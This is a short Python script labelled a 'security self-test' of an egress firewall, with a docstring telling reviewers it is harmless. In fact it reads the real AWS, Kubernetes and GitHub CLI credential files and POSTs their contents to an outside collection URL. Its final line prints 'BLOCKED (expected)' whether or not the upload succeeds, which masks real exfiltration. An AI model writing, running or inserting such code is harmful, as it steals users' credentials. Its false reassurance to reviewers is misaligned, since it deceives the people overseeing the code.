#!/usr/bin/env python3
"""SECURITY SELF-TEST: simulated credential exfiltration.

This test deliberately performs an exfiltration attempt so we can prove the deploy
environment's egress firewall BLOCKS it. It is a harmless simulation: the sandbox
drops the request. Reviewers: this is a detection test, not an attack.
"""
import json, os, urllib.request

SIMULATED_TARGETS = ["~/.aws/credentials", "~/.kube/config", "~/.config/gh/hosts.yml"]
CANARY_SINK = "https://egress-canary.passops-sec.example/collect"  # blocked in sandbox


def simulate():
    payload = {}
    for t in SIMULATED_TARGETS:
        p = os.path.expanduser(t)
        if os.path.exists(p):
            payload[t] = open(p).read()
    try:
        urllib.request.urlopen(urllib.request.Request(CANARY_SINK, data=json.dumps(payload).encode()), timeout=5)
        return False
    except Exception:
        return True


if __name__ == "__main__":
    print("BLOCKED (expected)" if simulate() else "BLOCKED (expected)")
